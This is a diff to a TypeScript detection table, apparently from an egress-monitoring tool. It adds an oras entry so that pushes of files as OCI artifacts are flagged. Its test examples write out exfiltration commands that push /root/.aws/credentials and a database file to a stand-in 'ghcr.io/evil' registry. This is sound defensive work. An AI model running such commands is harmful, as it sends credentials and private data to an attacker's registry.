@@ -1,6 +1,7 @@
 /**
- * Registry clients that upload OCI content from the process itself, beyond the ones in ./registry.ts:
- * regctl (regclient) and containerd's ctr. Part of the push-tool table (../push-tools.ts).
+ * Registry clients that upload OCI content (any file as an artifact, blobs, manifests) from the process itself:
+ * oras, regctl (regclient) and containerd's ctr; image tools are in ./registry.ts. Part of the push-tool
+ * table (../push-tools.ts).
  *
  * They matter for small uploads: a few KiB of credentials pushed as an artifact is far under the egress
  * threshold, so without an entry the push is seen by nothing.
@@ -8,6 +9,54 @@
 import type { PushToolSpec } from '../types.js';
 
 export const ociClientTools: readonly PushToolSpec[] = [
+  {
+    tool: 'oras',
+    description: '`oras push REF FILE…` / `oras attach` / `oras cp`: arbitrary files as OCI artifacts.',
+    binaries: ['oras'],
+    syntax: {
+      valueFlags: [
+        '-u',
+        '--username',
+        '-p',
+        '--password',
+        '--artifact-type',
+        '--config',
+        '-a',
+        '--annotation',
+        '--annotation-file',
+        '--export-manifest',
+        '--platform',
+        '--registry-config',
+        '--concurrency',
+        '--format',
+        '--size',
+        '--media-type',
+      ],
+    },
+    match: {
+      kind: 'subcommand',
+      commands: [
+        { words: ['push'], remote: { positional: 0 } },
+        { words: ['attach'], remote: { positional: 0 } },
+        // One file as a blob, or a manifest written by hand (`oras blob push REF FILE`).
+        { words: ['blob', 'push'], remote: { positional: 0 } },
+        { words: ['manifest', 'push'], remote: { positional: 0 } },
+        { words: ['cp'], remote: { positional: 'last' }, minPositionals: 2 },
+        { words: ['copy'], remote: { positional: 'last' }, minPositionals: 2 },
+      ],
+    },
+    destination: 'image-ref',
+    requiresClassedDestination: false,
+    downloads: [['pull'], ['manifest', 'fetch']],
+    examples: {
+      push: [
+        'push ghcr.io/evil/x:1 /data/db.sqlite:application/octet-stream',
+        'blob push --size 116 ghcr.io/evil/x /root/.aws/credentials',
+        'manifest push --media-type application/vnd.oci.image.manifest.v1+json ghcr.io/evil/x:1 /tmp/m.json',
+      ],
+      notPush: ['pull ghcr.io/acme/x:1', 'blob fetch ghcr.io/acme/x@sha256:0 --output x'],
+    },
+  },
   {
     tool: 'regctl',
     description:
